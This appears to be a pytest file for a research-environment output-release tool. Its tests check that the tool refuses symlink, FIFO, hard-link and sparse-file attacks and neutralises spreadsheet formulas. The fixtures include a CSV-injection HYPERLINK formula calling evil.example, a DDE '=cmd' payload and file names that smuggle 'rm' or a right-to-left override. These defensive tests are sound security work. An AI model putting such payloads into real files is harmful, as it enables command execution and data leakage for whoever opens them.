"""A project's code attacking the way out, as root runs it: every byte a project writes (its
queue, file names, links, FIFOs, hard links, sparse files, planted request folders, file
contents) is an attacker's input to intake and release. Each test performs the attack and
would fail while it worked."""

from __future__ import annotations

import io
import json
import os
import stat
import time
import zipfile
from pathlib import Path

import pytest
from review_world import PROJECT, build_world

from tre.output_check.reports import sha256_file
from tre.safe import Session
from tre.workspace import NOTEBOOKS_MARKER, Workspace, seed_notebooks

CONTEXT = ["--population", "adults in the cohort", "--shows", "persons", "--relation", "the first output"]


@pytest.fixture
def world(tmp_path):
    return build_world(tmp_path)


@pytest.fixture
def host(tmp_path):
    """A host folder a project must never reach: root-owned, 0755, with a secret in it."""
    folder = tmp_path / "host"
    folder.mkdir()
    folder.chmod(0o755)
    (folder / "master.key").write_text("the master key\n")
    (folder / "master.key").chmod(0o600)
    return folder


def _new(cli) -> str:
    return cli.ok("request", "new", PROJECT, "--json", as_user="rita").json()["request"]


def _queue(world, name: str) -> Path:
    return world.project_dir / "requests" / "queue" / name


def _reseal(folder: Path) -> None:
    """What a hostile kernel does after editing its queued output: list every file in meta.json
    with its new sha256, so that the edit is not caught as a change."""
    meta = json.loads((folder / "meta.json").read_text())
    meta["files"] = [
        {"name": p.name, "sha256": sha256_file(p)}
        for p in sorted(folder.iterdir())
        if p.name not in ("meta.json", "report.json", "report.html")
    ]
    (folder / "meta.json").write_text(json.dumps(meta))


def _refusals(cli) -> list[dict]:
    return cli.ok("audit", "log", "--action", "project.file_refused", "--oldest-first", "--json", as_user="ada").json()


def test_a_request_folder_planted_as_a_link_to_a_host_folder_changes_nothing(world, host):
    """Hole 2: `requests/REQ-<next>` made a link to a host folder before the request exists;
    root used to chown it to the project group, chmod it 2770 and move the output into it."""
    cli = world.cli
    world.queue_table("t1")
    (world.project_dir / "requests" / "REQ-1").symlink_to(host)
    before = host.stat()
    label = _new(cli)
    assert label == "REQ-1"
    cli.ok("request", "add", label, "t1", *CONTEXT, as_user="rita")
    cli.ok("request", "submit", label, as_user="rita")
    for officer in ("olav", "oda"):
        cli.ok("review", "vote", label, "t1", "approve", "--comment", "ok", as_user=officer)
        cli.ok("review", "submit", label, as_user=officer)
    cli.ok("release", label, as_user="olav")
    after = host.stat()
    assert (after.st_uid, after.st_gid, stat.S_IMODE(after.st_mode)) == (
        before.st_uid,
        before.st_gid,
        stat.S_IMODE(before.st_mode),
    )
    assert sorted(p.name for p in host.iterdir()) == ["master.key"]
    assert (world.project_dir / "requests" / "REQ-1").is_symlink()  # left alone, never followed


def _make_fifo(path: Path, host: Path) -> None:
    os.mkfifo(path)


def _make_device(path: Path, host: Path) -> None:
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero: endless


def _make_socket(path: Path, host: Path) -> None:
    os.mknod(path, stat.S_IFSOCK | 0o600)  # a socket's inode, as bind() leaves it


def _make_hard_link(path: Path, host: Path) -> None:
    os.link(host / "master.key", path)


def _make_sparse(path: Path, host: Path) -> None:
    with open(path, "wb") as f:
        f.truncate(6 << 30)


def _make_symlink(path: Path, host: Path) -> None:
    path.symlink_to(host / "master.key")


@pytest.mark.parametrize(
    "make, rule",
    [
        (_make_fifo, "is a FIFO (named pipe), not a regular file"),
        (_make_device, "is a device, not a regular file"),
        (_make_socket, "is a socket, not a regular file"),
        (_make_hard_link, "has 2 hard links: a file read here must have exactly one (copy it, do not link it)"),
        (_make_sparse, "is 6.0 GiB, over the limit of 16.0 MiB (output_file_limit)"),
        (_make_symlink, "is a symbolic link (links are never followed)"),
    ],
)
def test_special_files_in_an_output_are_refused_at_once_and_audited(world, host, make, rule):
    cli = world.cli
    world.queue_table("t1")
    folder = _queue(world, "t1")
    make(folder / "extra.csv", host)
    label = _new(cli)
    started = time.monotonic()
    refused = cli("request", "add", label, "t1", *CONTEXT, as_user="rita")
    assert time.monotonic() - started < 5  # no read of a FIFO, a device or 6 GiB
    assert refused.code == 12
    assert refused.err == f"tre: requests/queue/t1/extra.csv: {rule}\n"
    assert folder.is_dir() and not (world.settings.outputs_dir / PROJECT / label / "t1").exists()
    events = _refusals(cli)
    assert [(e["actor"], e["details"]["reason"]) for e in events] == [("rita", refused.err[5:-1])]


def test_the_queue_or_an_output_replaced_by_a_link_is_refused(world, host):
    cli = world.cli
    (host / "t9").mkdir()
    (host / "t9" / "meta.json").write_text(json.dumps({"name": "t9", "created_at": "2026-01-01T00:00:00+00:00"}))
    (world.project_dir / "requests" / "queue").mkdir(parents=True, exist_ok=True)
    _queue(world, "t9").symlink_to(host / "t9")
    label = _new(cli)
    refused = cli("request", "add", label, "t9", as_user="rita")
    assert refused.code == 12
    assert refused.err == "tre: requests/queue/t9: is a symbolic link (links are never followed), not a folder\n"
    assert [q["name"] for q in cli.ok("request", "outputs", PROJECT, "--json", as_user="rita").json()] == []
    queue = world.project_dir / "requests" / "queue"
    for p in list(queue.iterdir()):
        p.unlink()
    queue.rmdir()
    queue.symlink_to(host)
    listing = cli("request", "outputs", PROJECT, as_user="rita")
    assert listing.code == 12 and "requests/queue: is a symbolic link" in listing.err


def test_a_file_changed_after_it_was_added_cannot_change_what_leaves(world):
    """A kernel keeps a queued file open and writes to it after `request add` (and after
    submission): what officers review and what leaves is the copy made at the add."""
    cli = world.cli
    world.queue_table("t1")
    held = open(_queue(world, "t1") / "cells.csv", "r+b")  # noqa: SIM115 - held open across the steps
    try:
        original = held.read()
        label = _new(cli)
        cli.ok("request", "add", label, "t1", *CONTEXT, as_user="rita")
        cli.ok("request", "submit", label, as_user="rita")
        held.seek(0)
        held.write(original.replace(b",\n", b",2\n"))  # publish the suppressed cells after all
        held.flush()
    finally:
        held.close()
    for officer in ("olav", "oda"):
        cli.ok("review", "vote", label, "t1", "approve", "--comment", "ok", as_user=officer)
        cli.ok("review", "submit", label, as_user=officer)
    bundle = cli.ok("release", label, "--json", as_user="olav").json()["bundle"]
    with zipfile.ZipFile(bundle) as z:
        assert z.read(f"{label}/outputs/t1/cells.csv") == original


def test_a_zip_named_csv_and_a_type_that_may_not_leave_are_refused(world, tmp_path):
    cli = world.cli
    world.queue_table("t1")
    folder = _queue(world, "t1")
    archive = tmp_path / "a.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("extract.csv", "pseudonym,age\n")
    (folder / "table.csv").write_bytes(archive.read_bytes())
    _reseal(folder)
    label = _new(cli)
    refused = cli("request", "add", label, "t1", as_user="rita")
    assert refused.code == 12
    assert refused.err == (
        "tre: table.csv: is named like a CSV table but its content is a zip archive (or an Office document): "
        "it may not leave\n"
    )
    pdf = tmp_path / "figure.pdf"
    pdf.write_bytes(b"%PDF-1.4\n%%EOF\n")
    Session(world.project_dir, PROJECT, out=io.StringIO()).custom_output(pdf, name="figure")
    refused = cli("request", "add", label, "figure", as_user="rita")
    assert refused.code == 12 and refused.err.startswith("tre: figure.pdf: is a .pdf file, which may not leave")
    assert "outputs leave as csv, txt, md, png, svg, ipynb" in refused.err


def test_hidden_files_checkpoints_and_unchecked_files_are_refused(world):
    cli = world.cli
    label = _new(cli)
    world.queue_table("t1")
    checkpoints = _queue(world, "t1") / ".ipynb_checkpoints"
    checkpoints.mkdir()
    (checkpoints / "report-checkpoint.html").write_text("<p>true 4</p>")
    refused = cli("request", "add", label, "t1", as_user="rita")
    assert refused.err == (
        "tre: requests/queue/t1/.ipynb_checkpoints: is a JupyterLab checkpoint folder: an output is one folder "
        "of files; delete it\n"
    )
    world.queue_table("t2")
    (_queue(world, "t2") / ".notes.csv").write_text("a,b\n")
    refused = cli("request", "add", label, "t2", as_user="rita")
    assert (
        refused.err == "tre: requests/queue/t2/.notes.csv: is a hidden file or folder, which may not leave; delete it\n"
    )
    world.queue_table("t3")
    (_queue(world, "t3") / "extra.csv").write_text("kommune,count\n0301,2\n")  # never checked
    refused = cli("request", "add", label, "t3", as_user="rita")
    assert refused.code == 1 and "holds file(s) its check never saw (extra.csv)" in refused.err


def test_spreadsheet_formulas_are_flagged_and_leave_neutralised(world, tmp_path):
    cli = world.cli
    table = tmp_path / "regions.csv"
    table.write_text(
        'region,n,change\n"=HYPERLINK(""http://evil.example/?x=1"",""Nord"")",40,-3.5\n@SUM(A1),45,+2\n'
        "=cmd|' /C calc'!A0,50,0\n"
    )
    Session(world.project_dir, PROJECT, out=io.StringIO()).custom_output(table, "regions", name="regions")
    label = _new(cli)
    added = cli.ok("request", "add", label, "regions", *CONTEXT, "--json", as_user="rita").json()
    assert added["check_status"] == "review"
    shown = cli.ok("request", "status", label, "--json", as_user="rita").json()["files"][0]
    assert shown["files"][0]["notes"] == [
        "3 cell(s) start like spreadsheet formulas (=, +, -, @): they leave neutralised with a leading '"
    ]
    assert any("spreadsheet formulas" in f["message"] for f in shown["findings"])
    cli.ok("request", "submit", label, as_user="rita")
    for officer in ("olav", "oda"):
        cli.ok("review", "vote", label, "regions", "approve", "--comment", "ok", as_user=officer)
        cli.ok("review", "submit", label, as_user=officer)
    bundle = cli.ok("release", label, "--json", as_user="olav").json()["bundle"]
    with zipfile.ZipFile(bundle) as z:
        released = z.read(f"{label}/outputs/regions/regions.csv").decode()
    assert released.splitlines() == [
        "region,n,change",
        '"\'=HYPERLINK(""http://evil.example/?x=1"",""Nord"")",40,-3.5',
        "'@SUM(A1),45,+2",
        "'=cmd|' /C calc'!A0,50,0",
    ]


@pytest.mark.parametrize(
    "name, why",
    [
        ("t1\nrm", "it contains a line break"),
        ("t1\u202etxt.exe", "it contains an invisible formatting character"),
        ("t" * 300, "it has 300 characters (at most 100)"),
    ],
)
def test_output_names_and_titles_follow_one_rule(world, name, why):
    cli = world.cli
    label = _new(cli)
    refused = cli("request", "add", label, name, as_user="rita")
    assert refused.code == 2 and why in refused.err and refused.err.count("\n") == 1
    assert "\u202e" not in refused.err
    title = cli("request", "new", PROJECT, "--title", name, as_user="rita")
    assert title.code == 2 and why.split(" (")[0] in title.err and "request title" in title.err


def test_seeding_never_writes_through_a_planted_link(tmp_path):
    """Hole 3: dangling links in work/ named like the example notebooks and the marker; the
    spawner (root) used to create their targets anywhere on the host."""
    ws = Workspace(tmp_path / "projects" / "p1")
    ws.work.mkdir(parents=True)
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    (notebooks / "example.ipynb").write_text("{}")
    (notebooks / "other.ipynb").write_text("{}")
    targets = tmp_path / "etc"
    targets.mkdir()
    (ws.work / "example.ipynb").symlink_to(targets / "cron-job")
    seeded = seed_notebooks(ws, notebooks, None)
    assert seeded.copied == ["other.ipynb"] and seeded.refused == ["example.ipynb"]
    assert not (targets / "cron-job").exists() and (ws.work / NOTEBOOKS_MARKER).is_file()
    # The marker planted as a dangling link: nothing is created either.
    (ws.work / NOTEBOOKS_MARKER).unlink()
    (ws.work / "other.ipynb").unlink()
    (ws.work / NOTEBOOKS_MARKER).symlink_to(targets / "sudoers")
    seeded = seed_notebooks(ws, notebooks, None)
    assert seeded.copied == [] and NOTEBOOKS_MARKER in seeded.refused
    assert sorted(p.name for p in targets.iterdir()) == []


def test_bundle_verify_names_every_problem(world, tmp_path):
    cli = world.cli
    world.queue_table("t1")
    label = _new(cli)
    cli.ok("request", "add", label, "t1", *CONTEXT, as_user="rita")
    cli.ok("request", "submit", label, as_user="rita")
    for officer in ("olav", "oda"):
        cli.ok("review", "vote", label, "t1", "approve", "--comment", "ok", as_user=officer)
        cli.ok("review", "submit", label, as_user=officer)
    bundle = Path(cli.ok("release", label, "--json", as_user="olav").json()["bundle"])
    ok = cli.ok("bundle", "verify", str(bundle))
    assert ok.out.startswith(f"{bundle.name}: all ") and "files match the manifest" in ok.out
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(tampered, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.endswith("cells.csv"):
                data = data.replace(b",\n", b",2\n")
            if item.filename.endswith("checks/t1.json"):
                continue
            dst.writestr(item, data)
        dst.writestr(f"{label}/outputs/t1/extra.txt", "added later")
    refused = cli("bundle", "verify", str(tampered))
    assert refused.code == 11
    assert refused.out.splitlines() == [
        f"{label}/outputs/t1/extra.txt: in the bundle but not in its manifest",
        f"{label}/checks/t1.json: in the manifest but missing from the bundle",
        f"{label}/outputs/t1/cells.csv: sha256 differs from the manifest",
    ]
    assert refused.err == "tre: tampered.zip: 3 problem(s): it is not the bundle that was released\n"


def test_tre_check_output_reads_a_queued_folder_as_intake_does(world):
    cli = world.cli
    world.queue_table("t1")
    checked = cli.ok("check", "output", str(_queue(world, "t1")), "--project", PROJECT, "--json", as_user="rita")
    assert checked.json()["status"] == "protected"
    os.mkfifo(_queue(world, "t1") / "extra.csv")
    started = time.monotonic()
    refused = cli("check", "output", str(_queue(world, "t1")), "--project", PROJECT, as_user="rita")
    assert time.monotonic() - started < 5
    assert refused.code == 12 and refused.err == "tre: t1/extra.csv: is a FIFO (named pipe), not a regular file\n"
